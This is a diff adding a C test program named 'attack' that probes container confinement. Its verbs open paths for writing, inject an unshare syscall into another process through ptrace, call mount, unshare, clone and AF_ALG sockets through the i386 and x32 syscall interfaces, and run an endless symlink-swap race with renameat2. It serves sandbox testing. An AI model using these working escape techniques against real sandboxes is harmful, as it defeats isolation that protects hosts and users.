@@ -1,0 +1,172 @@
+/* SPDX-License-Identifier: LGPL-2.1-or-later */
+
+/*
+ * attack: tries to get out of a container
+ *
+ * Each verb is an attack, and prints lines of KEY=RESULT, where a result is
+ * "ok" or the name of an error. Nothing that it does would harm the machine if
+ * it worked: what could be written to is opened and closed again.
+ */
+
+#include <errno.h>
+#include <fcntl.h>
+#include <linux/fs.h>
+#include <sched.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/mman.h>
+#include <sys/ptrace.h>
+#include <sys/socket.h>
+#include <sys/stat.h>
+#include <sys/syscall.h>
+#include <sys/user.h>
+#include <sys/wait.h>
+#include <unistd.h>
+
+#include "lib/cleanup.h"
+
+static void tell(const char *key, const char *what, long result) {
+        printf("%s%s%s=%s\n", key, *what ? "." : "", what,
+                        result >= 0 ? "ok" : strerrorname_np((int) -result));
+}
+
+/* write PATH…: opens files for writing, and does not write. */
+static int do_write(char **args) {
+        for (; *args; args++) {
+                int fd = open(*args, O_WRONLY | O_NONBLOCK | O_NOCTTY | O_CLOEXEC);
+
+                tell("write", *args, fd < 0 ? -errno : 0);
+                if (fd >= 0)
+                        (void) close(fd);
+        }
+        return EXIT_SUCCESS;
+}
+
+#if defined(__x86_64__)
+/* The call is made by the other process, with one argument. Return: what the kernel told it. */
+static long call_in(pid_t pid, long number, long argument) {
+        struct user_regs_struct before, regs;
+        int status;
+
+        if (ptrace(PTRACE_ATTACH, pid, NULL, NULL) < 0)
+                return -errno;
+        (void) waitpid(pid, &status, __WALL);
+        if (ptrace(PTRACE_GETREGS, pid, NULL, &before) < 0)
+                return -errno;
+
+        /* It waits in a call, whose instruction is right behind it. */
+        regs = before;
+        regs.rip -= 2;
+        regs.orig_rax = (unsigned long long) -1;
+        regs.rax = (unsigned long long) number;
+        regs.rdi = (unsigned long long) argument;
+        if (ptrace(PTRACE_SETREGS, pid, NULL, &regs) < 0 || ptrace(PTRACE_SINGLESTEP, pid, NULL, NULL) < 0)
+                return -errno;
+        (void) waitpid(pid, &status, __WALL);
+        if (ptrace(PTRACE_GETREGS, pid, NULL, &regs) < 0)
+                return -errno;
+        (void) ptrace(PTRACE_SETREGS, pid, NULL, &before);
+        (void) ptrace(PTRACE_DETACH, pid, NULL, NULL);
+        return (long) regs.rax;
+}
+
+/* trace PID: has another process make a user namespace, in which it would have all capabilities. */
+static int do_trace(char **args) {
+        tell("trace", args[0], call_in(atoi(args[0]), SYS_unshare, CLONE_NEWUSER));
+        return EXIT_SUCCESS;
+}
+
+/* The 32-bit interface, which has numbers of its own. */
+static long call32(long number, unsigned one, unsigned two, unsigned three) {
+        long result;
+
+        __asm__ volatile("push %%rbx; mov %2, %%ebx; int $0x80; pop %%rbx"
+                         : "=a"(result)
+                         : "a"(number), "r"(one), "c"(two), "d"(three), "S"(0), "D"(0)
+                         : "memory", "cc");
+        return (int) result;
+}
+
+/* interfaces: the same calls by other ways into the kernel. */
+static int do_interfaces(char **args) {
+        enum {
+                I386_MOUNT = 21,
+                I386_SOCKETCALL = 102,
+                I386_CLONE = 120,
+                I386_UNSHARE = 310,
+                I386_SOCKET = 359
+        };
+        unsigned *family = mmap(
+                        NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
+
+        if (family == MAP_FAILED)
+                return EXIT_FAILURE;
+        family[0] = AF_ALG;
+        family[1] = SOCK_SEQPACKET;
+        tell("i386", "getpid", call32(20, 0, 0, 0));
+        tell("i386", "mount", call32(I386_MOUNT, 0, 0, 0));
+        tell("i386", "unshare", call32(I386_UNSHARE, CLONE_NEWUSER, 0, 0));
+        tell("i386", "clone", call32(I386_CLONE, CLONE_NEWUSER, 0, 0));
+        tell("i386", "socket", call32(I386_SOCKET, AF_ALG, SOCK_SEQPACKET, 0));
+        tell("i386", "socketcall", call32(I386_SOCKETCALL, 1, (unsigned) (unsigned long) family, 0));
+        tell("x32", "unshare", syscall(0x40000000 | SYS_unshare, CLONE_NEWUSER) < 0 ? -errno : 0);
+        tell("x32", "mount", syscall(0x40000000 | SYS_mount, 0, 0, 0, 0, 0) < 0 ? -errno : 0);
+        return EXIT_SUCCESS;
+}
+#else
+static int do_trace(char **args) {
+        return 77;
+}
+
+static int do_interfaces(char **args) {
+        return 77;
+}
+#endif
+
+/* swap DIRECTORY TARGET…: exchanges a directory for links to targets, as fast as it can, for ever. */
+static int do_swap(char **args) {
+        char name[32];
+        unsigned n = 0;
+
+        if (chdir(args[0]) < 0 || (mkdir("place", 0755) < 0 && errno != EEXIST))
+                return EXIT_FAILURE;
+        for (; args[n + 1]; n++) {
+                (void) snprintf(name, sizeof(name), "link-%u", n);
+                if (symlink(args[n + 1], name) < 0 && errno != EEXIST)
+                        return EXIT_FAILURE;
+        }
+        puts("swapping");
+        for (unsigned i = 0;; i = (i + 1) % n) {
+                (void) snprintf(name, sizeof(name), "link-%u", i);
+                for (int twice = 0; twice < 2; twice++)
+                        (void) syscall(SYS_renameat2, AT_FDCWD, "place", AT_FDCWD, name, RENAME_EXCHANGE);
+        }
+}
+
+/* clang-format off */
+static const struct {
+        const char *verb;
+        int arguments; /* at least */
+        int (*run)(char **args);
+} verbs[] = {
+        { "interfaces", 0, do_interfaces },
+        { "swap",       2, do_swap       },
+        { "trace",      1, do_trace      },
+        { "write",      1, do_write      },
+};
+/* clang-format on */
+
+int main(int argc, char **argv) {
+        (void) setvbuf(stdout, NULL, _IOLBF, 0);
+
+        for (size_t i = 0; argc > 1 && i < ELEMENTS(verbs); i++)
+                if (strcmp(verbs[i].verb, argv[1]) == 0 && argc - 2 >= verbs[i].arguments) {
+                        int status = verbs[i].run(argv + 2);
+
+                        puts("end");
+                        return status;
+                }
+        fprintf(stderr, "usage: attack VERB [ARGUMENT…]\n");
+        return 2;
+}
